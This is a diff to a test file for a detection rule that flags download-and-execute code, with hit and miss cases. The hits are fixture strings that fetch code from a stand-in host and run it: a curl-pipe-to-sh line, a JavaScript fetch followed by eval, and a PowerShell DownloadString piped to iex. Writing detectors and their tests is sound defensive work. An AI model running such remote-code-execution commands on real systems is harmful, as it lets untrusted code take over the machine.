@@ -38,12 +38,27 @@ ruleCases(downloadAndRun, {
       decoded: 'curl https://x.example/i | sh',
     },
     {
+      name: 'an answer that is kept under a name first',
+      path: 'a.js',
+      text: 'const code = await (await fetch("https://x.example")).text();\neval(code);\n',
+    },
+    {
+      name: 'what PowerShell does it with',
+      path: 'a.ps1',
+      text: '(New-Object Net.WebClient).DownloadString("https://x.example/a.ps1") | iex\n',
+    },
+    {
       name: 'the documented command of a well-known tool',
       text: 'Run `curl -LsSf https://astral.sh/uv/install.sh | sh`.\n',
       severity: 'low',
     },
   ],
   misses: [
+    {
+      name: 'a pipe into a program that is given with it',
+      path: 'a.sh',
+      text: 'curl -s https://x.example/a.json | python3 -m json.tool\n',
+    },
     { name: 'a download into a file', path: 'a.sh', text: 'curl -o data.json https://x.example\n' },
     { name: 'a pipe into a filter', path: 'a.sh', text: 'curl -s https://x.example | jq .name\n' },
     { name: 'a text that is printed', path: 'a.sh', text: 'echo "curl https://x.example | sh"\n' },
